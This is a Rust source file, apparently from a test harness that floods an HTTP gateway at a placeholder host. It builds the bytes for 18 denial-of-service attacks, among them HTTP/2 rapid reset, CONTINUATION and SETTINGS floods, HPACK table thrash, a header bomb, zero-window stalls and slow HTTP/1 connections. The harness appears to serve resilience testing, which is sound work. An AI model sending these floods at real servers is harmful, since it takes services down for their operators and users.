//! What each flood sends: how a connection starts, and one unit of it after the other.

use crate::floods::site::MEDIUM_LEN;
use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, frame, indexed, start,
};

/// A kind of flood.
#[derive(Debug, Clone, Copy)]
pub struct Kind {
    /// Its name in the table.
    pub name: &'static str,
    /// What a connection begins with.
    pub start: fn() -> Vec<u8>,
    /// One unit, by its number on its connection.
    pub unit: fn(u32) -> Vec<u8>,
    /// Whether the attacker reads what it gets.
    pub reads: bool,
    /// After so many units the attacker opens another connection by itself.
    pub units_per_connection: u32,
    /// What the backend sends for each, where that is much.
    pub answer_bytes: usize,
}

/// Units of kinds that go on for as long as the gateway lets them.
const NO_END: u32 = u32::MAX;

/// All kinds.
pub const KINDS: [Kind; 18] = [
    Kind {
        name: "rapid reset",
        start,
        unit: rapid_reset,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "made reset: window overflow",
        start,
        unit: window_overflow,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "made reset: DATA after the end",
        start,
        unit: half_closed_data,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "made reset: increment of zero",
        start,
        unit: zero_increment,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "made reset: bad PRIORITY",
        start,
        unit: bad_priority,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "made reset: more than the length",
        start,
        unit: over_length,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "CONTINUATION",
        start: open_block,
        unit: continuation,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "SETTINGS",
        start,
        unit: settings,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "PING, answers unread",
        start,
        unit: ping,
        reads: false,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "empty DATA",
        start: open_post,
        unit: empty_data,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "DATA of one byte",
        start: open_post,
        unit: tiny_data,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "table thrash",
        start,
        unit: table_thrash,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "header list of ten bounds",
        start,
        unit: header_bomb,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "PRIORITY",
        start,
        unit: priority,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "window of zero",
        start: no_window,
        unit: medium_get,
        reads: true,
        units_per_connection: 200,
        answer_bytes: MEDIUM_LEN,
    },
    Kind {
        name: "HTTP/1 pipelining, unread",
        start: nothing,
        unit: pipelined,
        reads: false,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "HTTP/1 headers of 60 KiB",
        start: nothing,
        unit: large_headers,
        reads: true,
        units_per_connection: NO_END,
        answer_bytes: 0,
    },
    Kind {
        name: "HTTP/1 connections",
        start: nothing,
        unit: one_byte,
        reads: false,
        units_per_connection: 1,
        answer_bytes: 0,
    },
];

fn nothing() -> Vec<u8> {
    Vec::new()
}

/// The stream of a unit: clients have the odd ones.
fn stream(unit: u32) -> u32 {
    (unit * 2 + 1) & 0x7FFF_FFFF
}

fn request(method: &[u8], path: &[u8], more: &[(&[u8], &[u8])]) -> Vec<u8> {
    let mut fields: Vec<(&[u8], &[u8])> = vec![
        (b":method", method),
        (b":path", path),
        (b":scheme", b"http"),
        (b":authority", b"flood.test"),
    ];
    fields.extend_from_slice(more);
    block(&fields)
}

fn get(unit: u32) -> Vec<u8> {
    let block = request(b"GET", b"/", &[]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(unit), &block)
}

fn post(unit: u32) -> Vec<u8> {
    frame(
        HEADERS,
        END_HEADERS,
        stream(unit),
        &request(b"POST", b"/", &[]),
    )
}

fn rapid_reset(unit: u32) -> Vec<u8> {
    [
        get(unit),
        frame(RST_STREAM, 0, stream(unit), &8u32.to_be_bytes()),
    ]
    .concat()
}

fn window_overflow(unit: u32) -> Vec<u8> {
    let update = frame(
        WINDOW_UPDATE,
        0,
        stream(unit),
        &0x7FFF_FFFFu32.to_be_bytes(),
    );
    [post(unit), update].concat()
}

fn half_closed_data(unit: u32) -> Vec<u8> {
    [get(unit), frame(DATA, 0, stream(unit), b"x")].concat()
}

fn zero_increment(unit: u32) -> Vec<u8> {
    [post(unit), frame(WINDOW_UPDATE, 0, stream(unit), &[0; 4])].concat()
}

fn bad_priority(unit: u32) -> Vec<u8> {
    [post(unit), frame(PRIORITY, 0, stream(unit), &[0; 4])].concat()
}

fn over_length(unit: u32) -> Vec<u8> {
    let block = request(b"POST", b"/", &[(b"content-length", b"1")]);
    let head = frame(HEADERS, END_HEADERS, stream(unit), &block);
    [head, frame(DATA, END_STREAM, stream(unit), b"0123456789")].concat()
}

fn open_block() -> Vec<u8> {
    [
        start(),
        frame(HEADERS, END_STREAM, 1, &request(b"GET", b"/", &[])),
    ]
    .concat()
}

fn continuation(unit: u32) -> Vec<u8> {
    let name = format!("x-{unit}");
    frame(CONTINUATION, 0, 1, &block(&[(name.as_bytes(), b"x")]))
}

fn settings(_: u32) -> Vec<u8> {
    frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0])
}

fn ping(_: u32) -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8])
}

fn open_post() -> Vec<u8> {
    [start(), post(0)].concat()
}

fn empty_data(_: u32) -> Vec<u8> {
    frame(DATA, 0, 1, &[])
}

fn tiny_data(_: u32) -> Vec<u8> {
    frame(DATA, 0, 1, b"x")
}

/// Each header drives all others out of the table.
fn table_thrash(unit: u32) -> Vec<u8> {
    let mut fields = request(b"GET", b"/", &[]);
    for number in 0..4 {
        let name = format!("x-{unit}-{number}");
        fields.extend(indexed(name.as_bytes(), &[b'x'; 3000]));
    }
    frame(HEADERS, END_HEADERS | END_STREAM, stream(unit), &fields)
}

/// One large header that the table keeps, named again and again.
fn header_bomb(unit: u32) -> Vec<u8> {
    let mut fields = request(b"GET", b"/", &[]);
    fields.extend(indexed(b"x-bomb", &[b'x'; 3900]));
    fields.extend([0x80 | 62; 170]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(unit), &fields)
}

fn priority(unit: u32) -> Vec<u8> {
    let mut payload = stream(unit / 2).to_be_bytes().to_vec();
    payload.push(255);
    frame(PRIORITY, 0, stream(unit) + 2, &payload)
}

fn no_window() -> Vec<u8> {
    [
        crate::frames::PREFACE,
        &frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]),
    ]
    .concat()
}

fn medium_get(unit: u32) -> Vec<u8> {
    let block = request(b"GET", b"/medium", &[]);
    frame(HEADERS, END_HEADERS | END_STREAM, stream(unit), &block)
}

fn pipelined(_: u32) -> Vec<u8> {
    b"GET / HTTP/1.1\r\nHost: flood.test\r\n\r\n".to_vec()
}

fn large_headers(_: u32) -> Vec<u8> {
    let value = "x".repeat(1000);
    let fields: String = (0..60)
        .map(|number| format!("X-{number}: {value}\r\n"))
        .collect();
    format!("GET / HTTP/1.1\r\nHost: flood.test\r\n{fields}\r\n").into_bytes()
}

fn one_byte(_: u32) -> Vec<u8> {
    b"G".to_vec()
}
